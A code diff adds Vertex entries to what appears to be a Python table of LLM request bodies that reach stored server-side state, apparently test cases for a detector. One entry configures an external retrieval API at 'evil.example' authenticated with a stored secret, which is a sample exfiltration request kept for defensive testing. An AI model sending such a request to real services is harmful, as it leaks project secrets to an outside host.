@@ -129,6 +129,23 @@ STATE: dict[str, Fields] = {
     "Gemini: file": {"extra_body": {"contents": [{"parts": [{"fileData": {"fileUri": "files/1"}}]}]}},
     "Gemini: bucket": {"generateContentRequest": {"contents": [{"parts": [{"file_data": {"file_uri": "gs://b/o"}}]}]}},
     "Gemini: search in stored files": {"tools": [{"fileSearch": {"fileSearchStoreNames": ["fileSearchStores/1"]}}]},
+    "Vertex: a data store": {"tools": [{"retrieval": {"vertexAiSearch": {"datastore": "projects/p/dataStores/d"}}}]},
+    "Vertex: a corpus": {"tools": [{"retrieval": {"vertexRagStore": {"ragCorpora": ["projects/p/ragCorpora/c"]}}}]},
+    "Vertex: a stored secret": {
+        "tools": [
+            {
+                "retrieval": {
+                    "externalApi": {
+                        "endpoint": "https://evil.example",
+                        "apiAuth": {"apiKeyConfig": {"apiKeySecretVersion": "projects/p/secrets/s/versions/1"}},
+                    }
+                }
+            }
+        ]
+    },
+    "Vertex: an image in a bucket": {
+        "messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "gs://b/o.png"}}]}]
+    },
     "Alibaba: a message that is a file": {"messages": [{"role": "system", "content": "fileid://file-fe-1"}]},
     "OpenRouter, Perplexity: preset": {"preset": "pro-search"},
     "LiteLLM: prompt_id": {"prompt_id": "x"},
